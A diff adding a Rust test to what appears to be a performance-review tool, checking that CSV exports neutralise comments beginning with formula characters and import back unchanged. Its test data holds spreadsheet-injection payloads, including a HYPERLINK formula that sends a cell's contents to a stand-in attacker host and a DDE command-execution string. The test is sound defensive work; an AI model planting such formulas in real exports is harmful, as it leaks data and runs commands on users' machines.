@@ -133,6 +133,59 @@ async fn export_writes_the_named_reviews_in_the_import_format_and_never_peer_ans
     assert_eq!(export(&db, "no such cycle").await.unwrap_err(), AppError::NotFound);
 }
 
+/// Comments a spreadsheet would run: the export never starts a cell with a
+/// formula character, and importing the export gives back the same text.
+#[tokio::test]
+async fn formula_comments_are_exported_as_text_and_import_back_unchanged() {
+    let (db, _) = seeded_db().await;
+    let (a, b) = (email(&db, 2).await, email(&db, 1).await);
+    let comments = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "'=already quoted",
+    ];
+    let mut w = crate::server::csv::CsvFile::new(&COLUMNS).unwrap();
+    for (i, c) in comments.iter().enumerate() {
+        let competency = format!("Skill {i}");
+        w.row(&[
+            "2025 H2",
+            "2025-07-01",
+            "2025-12-31",
+            &a,
+            &b,
+            "manager",
+            &competency,
+            "3",
+            c,
+            "2026-01-12",
+        ])
+        .unwrap();
+    }
+    import(&db, &w.finish().unwrap(), today()).await.unwrap();
+    let out = export(&db, "2025 H2").await.unwrap();
+    let mut cells = csv::ReaderBuilder::new().from_reader(out.as_bytes());
+    for record in cells.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {out}");
+        }
+    }
+    // Exported, imported again, exported again: the same file and the same text.
+    import(&db, &out, today()).await.unwrap();
+    assert_eq!(export(&db, "2025 H2").await.unwrap(), out);
+    let mut res = db
+        .query("SELECT VALUE ratings.comment FROM review WHERE cycle.name = '2025 H2'")
+        .await
+        .unwrap();
+    let stored: Vec<Vec<String>> = res.take(0).unwrap();
+    let mut stored: Vec<String> = stored.into_iter().flatten().collect();
+    stored.sort();
+    let mut want: Vec<String> = comments.iter().map(|c| c.to_string()).collect();
+    want.sort();
+    assert_eq!(stored, want);
+}
+
 #[tokio::test]
 async fn only_hr_imports_and_exports() {
     let (db, demo) = seeded_db().await;
